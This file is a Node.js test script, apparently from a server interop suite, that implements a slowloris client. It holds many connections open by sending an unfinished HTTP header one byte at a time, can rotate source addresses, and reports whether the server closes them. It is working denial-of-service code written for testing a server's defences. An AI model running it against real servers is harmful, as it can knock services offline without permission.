// test/interop/slowloris.mjs — slowloris clients for hostile.sh: N TCP
// connections that send an HTTP request header one byte every INTERVAL ms
// and never finish it (the header never reaches its blank line).
// usage: node slowloris.mjs HOST PORT N INTERVAL_MS DURATION_MS [A.B.C.BASE NADDR]
// (connection i from local address BASE + i mod NADDR when given).
// prints `slowloris: connected K of N in T ms` once all are connected (or
// after 5 s), then at the end `slowloris: done after T ms: K open, C closed by
// the server (first after F ms), E errors, B header bytes sent`.
import * as net from 'node:net';

const [host, portA, nA, intervalA, durA, base, naddrA] = process.argv.slice(2);
const port = Number(portA), n = Number(nA), interval = Number(intervalA), dur = Number(durA), naddr = Number(naddrA || 1);
const bm = base ? /^(\d+\.\d+\.\d+)\.(\d+)$/.exec(base) : null;
if (!host || !(port > 0) || !(n > 0) || !(interval > 0) || !(dur > 0) || (base && !bm) || !(naddr > 0)) {
  console.error('usage: node slowloris.mjs HOST PORT N INTERVAL_MS DURATION_MS [A.B.C.BASE NADDR]');
  process.exit(2);
}
const HEADER = 'GET /bytes/10 HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: slowloris\r\nX-Slow: ' + 'a'.repeat(4096);
const t0 = Date.now();
let connected = 0, closed = 0, errors = 0, bytes = 0, firstClose = -1, announced = false;
const socks = [];
const announce = () => {
  if (announced) return;
  announced = true;
  console.log('slowloris: connected ' + connected + ' of ' + n + ' in ' + (Date.now() - t0) + ' ms');
};
for (let i = 0; i < n; i++) {
  const s = net.connect(bm ? { host, port, localAddress: bm[1] + '.' + (Number(bm[2]) + (i % naddr)) } : { host, port });
  const st = { s, pos: 0, open: false, gone: false };
  socks.push(st);
  s.on('connect', () => {
    st.open = true;
    if (++connected === n) announce();
  });
  s.on('data', () => {}); // a 408 or anything else: read and ignore
  s.on('error', () => {
    errors++;
  });
  s.on('close', () => {
    if (st.gone) return;
    st.gone = true;
    if (st.open) {
      closed++;
      if (firstClose < 0) firstClose = Date.now() - t0;
    }
  });
}
setTimeout(announce, 5000);
const tick = setInterval(() => {
  for (const st of socks) {
    if (!st.open || st.gone || st.pos >= HEADER.length) continue;
    st.s.write(HEADER[st.pos++]);
    bytes++;
  }
}, interval);
// the first byte at once
setTimeout(() => {
  for (const st of socks) if (st.open && !st.gone && st.pos === 0) { st.s.write(HEADER[st.pos++]); bytes++; }
}, 100);
setTimeout(() => {
  clearInterval(tick);
  const open = socks.filter((st) => st.open && !st.gone).length;
  console.log('slowloris: done after ' + (Date.now() - t0) + ' ms: ' + open + ' open, ' + closed + ' closed by the server' +
    (firstClose >= 0 ? ' (first after ' + firstClose + ' ms)' : '') + ', ' + errors + ' errors, ' + bytes + ' header bytes sent');
  for (const st of socks) { st.gone = true; st.s.destroy(); }
  process.exit(0);
}, dur);
